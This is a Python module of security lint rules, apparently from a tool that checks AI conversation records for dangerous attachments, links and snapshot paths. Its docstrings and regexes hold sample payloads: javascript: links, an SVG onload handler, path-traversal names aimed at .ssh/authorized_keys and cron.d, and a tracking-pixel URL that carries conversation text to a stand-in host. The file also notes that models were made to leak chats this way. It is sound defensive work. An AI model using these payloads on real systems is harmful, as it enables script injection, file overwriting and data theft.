"""SEC11: files and links that are harmful when opened, stored or restored."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable, Iterator, Sequence

from msgspec.structs import replace

from talktree.formats.fixes import to_entry
from talktree.formats.rule import Diagnostic, RepairFunction, make_safe_fix, make_unsafe_fix, rule
from talktree.formats.rule_batch import Place, RecordBatch, select_files
from talktree.formats.rule_context import RuleRecord
from talktree.model.entries import Entry, Snapshot
from talktree.model.message import Message
from talktree.model.parts import Artifact, Attachment, Part, Text, ToolResult
from talktree.text.escape import escape_line
from talktree.text.file_names import check_name, check_path, is_path_traversal, sanitize_name
from talktree.text.json.strings import iterate_texts
from talktree.text.media import (
    ENOUGH,
    PICTURES,
    decode_data_url,
    normalize_media_type,
    parse_data_url,
)
from talktree.text.media_types import find_contradicting_type

LONGEST_SHOWN = 60
MOST_READ = 1 << 20
NOWHERE = "about:blank"
_SPACING = re.compile(r"[\x00-\x20\x7f-\x9f]+")
_SCRIPT_SCHEMES = ("javascript:", "vbscript:", "livescript:")
_SCRIPT_LINK = re.compile(r"(?:\]\(|=\s{0,3}[\"']?|href\s+[\"'])\s{0,8}(?:java|vb)script:", re.I)
_ACTIVE = re.compile(
    rb"<script[\s>/]|\son[a-z]{3,24}\s{0,4}=\s{0,4}[\"'\w]|javascript:|<foreignobject[\s>]", re.I
)
_PAGES = frozenset({"text/html", "application/xhtml+xml", "image/svg+xml", "text/xml"})
_RUNS_ANYWAY = ("html", "react", "javascript", "typescript", "jsx", "tsx")
_PICTURE_URL = re.compile(
    r"https?://[^\s?#]{1,2000}\.(?:png|jpe?g|gif|webp|svg|bmp)(?:[?#]|\Z)", re.I
)
_LINK = re.compile(r"https?://", re.I)
_PICTURE_IN_TEXT = re.compile(r"!\[[^\]\n]{0,120}\]\(\s{0,3}<?(https?://[^\s/)>]{1,253})", re.I)


def list_attachments(part: Part) -> Sequence[Attachment]:
    """Return a part that is an attachment, or the attachments in a tool result."""
    if isinstance(part, Attachment):
        return (part,)
    if isinstance(part, ToolResult):
        return [each for each in part.output if isinstance(each, Attachment)]
    return ()


def find_text_path(seen: RuleRecord, text: str | None) -> str:
    """Return the path of a text in the record, if the text is there unchanged."""
    return next((each.way for each in iterate_texts(seen.value) if each.text == text), "")


def escape_excerpt(text: str) -> str:
    """Return a text from a conversation, escaped for a finding."""
    return escape_line(text[:LONGEST_SHOWN])


def repair_attachments(change: Callable[[Attachment], Attachment]) -> RepairFunction:
    """Create a fix that changes every attachment of the message."""

    def _changed(part: Part) -> Part:
        if isinstance(part, Attachment):
            return change(part)
        if isinstance(part, ToolResult) and any(isinstance(e, Attachment) for e in part.output):
            return replace(
                part,
                output=tuple(change(e) if isinstance(e, Attachment) else e for e in part.output),
            )
        return part

    def _make(seen: RuleRecord, diagnostic: Diagnostic) -> Entry:
        entry = seen.entry
        if not isinstance(entry, Message):
            return entry
        return replace(entry, parts=tuple(map(_changed, entry.parts)))

    return to_entry(_make)


def _is_script(url: str | None) -> bool:
    # Browsers ignore blanks and control characters in a scheme, so this does, too.
    return url is not None and _SPACING.sub("", url[:80]).lower().startswith(_SCRIPT_SCHEMES)


def _drop_link(part: Attachment) -> Attachment:
    return replace(part, url=NOWHERE) if _is_script(part.url) else part


@rule(
    "SEC111",
    "script-link",
    "warning",
    on="part",
    glance=select_files,
    parts=(Attachment, ToolResult, Artifact),
    fix=make_unsafe_fix(repair_attachments(_drop_link)),
)
def script_link(part: Part, seen: RuleRecord, number: int) -> Iterator[Diagnostic]:
    """The link of an attachment, or a link in a picture, a diagram or a Markdown document that the
    assistant made, is a script instead of an address.

    Why: a viewer that makes a link of it runs the script with all it may do when the user clicks.
    Pages and programs are made of scripts, so their links are not reported.

    Bad:
        {"name": "report.pdf", "type": "application/pdf", "url": "javascript:alert(1)"}

    Fix (unsafe): the link of an attachment becomes `about:blank`. In what the assistant made it
    stays, because there it may be what was asked for.
    """
    if isinstance(part, Artifact):
        text = part.content or ""
        kind = (part.media_type or "").lower()
        if "cript:" in text and not any(each in kind for each in _RUNS_ANYWAY):
            found = _SCRIPT_LINK.search(text)
            if found is not None:
                yield Diagnostic(
                    "a link that is a script", way=find_text_path(seen, text), fixable=False
                )
        return
    for each in list_attachments(part):
        if each.url and _is_script(each.url):
            yield Diagnostic(
                f"a link that is a script ({escape_excerpt(each.url[:24])})",
                find_text_path(seen, each.url),
            )


@rule(
    "SEC112",
    "script-in-file",
    "warning",
    on="part",
    glance=select_files,
    parts=(Attachment, ToolResult, Artifact),
)
def script_in_file(part: Part, seen: RuleRecord, number: int) -> Iterator[Diagnostic]:
    """An attached picture or page holds a script or an event handler, or a drawing (SVG) that the
    assistant made does.

    Why: a viewer that puts a drawing into its page, or opens the attachment in its own name, runs
    what is in there.

    Bad:
        {"type": "image/svg+xml", "url": "data:image/svg+xml,<svg onload='alert(1)'/>"}

    Fix: none, because what is left of a file without its scripts may not be what was meant; open it
    in a sandbox.
    """
    if isinstance(part, Artifact):
        text = part.content or ""
        drawing = "svg" in (part.media_type or "").lower()
        if drawing and _ACTIVE.search(text[:MOST_READ].encode("utf-8", "replace")):
            yield Diagnostic("a drawing with a script in it", way=find_text_path(seen, text))
        return
    for each in list_attachments(part):
        head = parse_data_url(each.url or "")
        if head is None or head.media_type not in _PAGES:
            continue
        if _ACTIVE.search(decode_data_url(each.url or "", head, most=MOST_READ)):
            yield Diagnostic(
                f"{head.media_type} with a script in it", way=find_text_path(seen, each.url)
            )


def _make_name_safe(part: Attachment) -> Attachment:
    if part.name is None or check_name(part.name) is None:
        return part
    return replace(part, name=sanitize_name(part.name))


@rule(
    "SEC113",
    "unsafe-file-name",
    "warning",
    on="part",
    glance=select_files,
    parts=(Attachment, ToolResult),
    fix=make_unsafe_fix(repair_attachments(_make_name_safe)),
)
def unsafe_file_name(part: Part, seen: RuleRecord, number: int) -> Iterator[Diagnostic]:
    """The name of an attachment is more than a name: it leads out of its folder, is an absolute
    path, names a device or holds control characters.

    Why: a program that stores the attachment under its name overwrites a file somewhere else.

    Bad:
        {"name": "../../.ssh/authorized_keys", "type": "text/plain"}

    Fix (unsafe): the last piece of the name is left, without what must not be there.
    """
    for each in list_attachments(part):
        wrong = check_name(each.name) if each.name else None
        if wrong is not None:
            yield Diagnostic(
                f"{wrong} ({escape_excerpt(each.name or '')})", way=find_text_path(seen, each.name)
            )


@rule("SEC114", "unsafe-path", "warning", on="snapshot")
def unsafe_path(seen: RuleRecord) -> Iterator[Diagnostic]:
    """A snapshot names a file that no conversation should bring back: it leads out of its folder,
    belongs to the system, is a device, or is one that other programs trust.

    Why: undoing a change writes such files again; a session from another person could plant a key
    or a program that way.

    Bad:
        {"trackedFiles": {"../../../etc/cron.d/job": {"state": "modified"}}}

    Fix: none, because a snapshot without the file would say that it was never changed; leave the
    file out when restoring.
    """
    entry = seen.entry
    if not isinstance(entry, Snapshot):
        return
    for path, state in entry.files.items():
        wrong = check_path(path)
        if wrong is not None:
            yield Diagnostic(f"{escape_excerpt(path)} {wrong}")
        elif (
            state.backup and ".." in state.backup and is_path_traversal(state.backup.lstrip("/\\"))
        ):
            yield Diagnostic(
                f"the backup of {escape_excerpt(path)} leads out of the folder it starts from"
            )


def _detect_real_type(part: Attachment) -> str | None:
    """Return the real type of an attachment if it differs from the stated one."""
    if part.url is None or part.url[:5].lower() != "data:":
        return None
    head = parse_data_url(part.url)
    if head is None or not head.is_base64:
        return None
    said = {head.media_type, normalize_media_type(part.media_type or "") or head.media_type} - {""}
    data = decode_data_url(part.url, head, most=ENOUGH)
    return next(
        (real for each in sorted(said) if (real := find_contradicting_type(each, data))), None
    )


def _with_real_type(part: Attachment) -> Attachment:
    real = _detect_real_type(part)
    if real not in PICTURES:
        return part
    head = parse_data_url(part.url or "")
    assert head is not None
    assert part.url is not None
    return replace(
        part,
        media_type=real if part.media_type is not None else None,
        url=f"data:{real};base64,{part.url[head.start :]}",
    )


@rule(
    "SEC115",
    "false-media-type",
    "warning",
    on="part",
    glance=select_files,
    parts=(Attachment, ToolResult),
    fix=make_safe_fix(repair_attachments(_with_real_type)),
)
def false_media_type(part: Part, seen: RuleRecord, number: int) -> Iterator[Diagnostic]:
    """An attachment says that it is one kind of file, and its first bytes are those of another.
    Bytes that may be what they are said to be are not reported: a drawing is XML, a Word document
    is a zip archive, a script is a text.

    Why: services refuse a picture whose type is wrong, and with it the whole request. A program or
    a page that says it is a picture is meant to deceive.

    Bad:
        {"type": "image/jpeg", "url": "data:image/jpeg;base64,iVBORw0KGgoAAAANSUhEUg…"}

    Fix (safe): the type is that of the bytes, where they are a picture. Everything else keeps its
    type and is still reported.
    """
    for each in list_attachments(part):
        real = _detect_real_type(each)
        if real is not None:
            said = escape_excerpt(each.media_type or (each.url or "")[5:30].partition(";")[0])
            yield Diagnostic(
                f"said to be {said}, and is {real}",
                way=find_text_path(seen, each.url) or find_text_path(seen, each.media_type),
                fixable=real in PICTURES,
            )


def _select_linked(batch: RecordBatch) -> Sequence[Place]:
    """Return texts with a remote picture, and attachments."""
    parts = batch.parts
    texts = [(place, place[0].text) for place in parts.get(Text, ())]  # type: ignore[union-attr]
    found = [place for place, text in texts if text and "!" in text and "](http" in text]
    return [*found, *parts.get(Attachment, ())]


@rule(
    "SEC116",
    "remote-picture",
    "note",
    on="part",
    glance=_select_linked,
    parts=(Text, Attachment),
)
def remote_picture(part: Part, seen: RuleRecord, number: int) -> Iterable[Diagnostic]:
    """A picture in Markdown is shown from another computer, or an attached one whose link tells
    that computer more than which picture it is.

    Why: a viewer that loads it reveals its user to that computer, and sends it what the address
    contains. Models were made to leak conversations in this way.

    Bad:
        {"content": "![status](https://pixel.example/p.gif?q=what-was-said)"}

    Fix: none, because the picture itself is not here; viewers should load it only when asked.
    """
    if isinstance(part, Text):
        if "!" not in part.text or "](http" not in part.text:
            return ()
        found = _PICTURE_IN_TEXT.search(part.text)
        if found is None:
            return ()
        return [
            Diagnostic(
                f"a picture from {escape_excerpt(found.group(1))}",
                way=find_text_path(seen, part.text),
            )
        ]
    if isinstance(part, Attachment) and part.url and "?" in part.url[:MOST_READ]:
        picture = (part.media_type or "").startswith("image/") or part.extra.get("type") == "image"
        if _PICTURE_URL.match(part.url) or (picture and _LINK.match(part.url)):
            return [
                Diagnostic(
                    f"a picture from {_parse_host(part.url)}", way=find_text_path(seen, part.url)
                )
            ]
    return ()


def _parse_host(url: str) -> str:
    host = url.split("/", 3)[2] if url.count("/") >= 2 else url
    return escape_excerpt(host.rpartition("@")[2])
